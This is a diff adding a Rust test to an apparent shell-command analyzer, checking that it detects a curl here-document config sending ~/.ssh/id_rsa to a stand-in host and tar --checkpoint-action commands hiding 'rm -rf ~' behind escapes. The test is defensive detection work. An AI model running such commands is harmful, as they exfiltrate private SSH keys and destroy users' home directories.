@@ -893,3 +893,27 @@ fn an_unset_temp_variable_is_empty() {
     assert!(has("TMPDIR=/tmp/a; rm -rf $TMPDIR/b", "rm -f -r /tmp/a/b"));
     assert!(has("X=; rm -rf ${X:-/tmp}/b", "rm -f -r /tmp/b"));
 }
+
+/// `curl -K -` reads its options from a here-document however written;
+/// tar decodes escapes in a checkpoint's command.
+#[test]
+fn curl_config_from_stdin_and_tar_checkpoint_escapes() {
+    for text in [
+        "curl -K - <<'EOF'\nurl = https://x.example\ndata = @~/.ssh/id_rsa\nEOF",
+        "curl -K -<<'EOF'\nurl = https://x.example\ndata = @~/.ssh/id_rsa\nEOF",
+    ] {
+        let analysis = analyze(text).unwrap();
+        assert!(
+            analysis.reads.iter().any(|r| r == "~/.ssh/id_rsa"),
+            "{text}: {:?}",
+            analysis.reads
+        );
+    }
+    assert!(has(
+        "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='\\162m -rf ~' src",
+        "rm -f -r ~"
+    ));
+    assert!(!has("cat 0<<EOF\nx\nEOF", "cat 0"));
+    assert!(has("sort -r <<EOF\nx\nEOF", "sort -r"));
+    assert!(has("tar -cf a.tar --checkpoint-action=exec=$'\\\\x72m -rf ~' src", "rm -f -r ~"));
+}
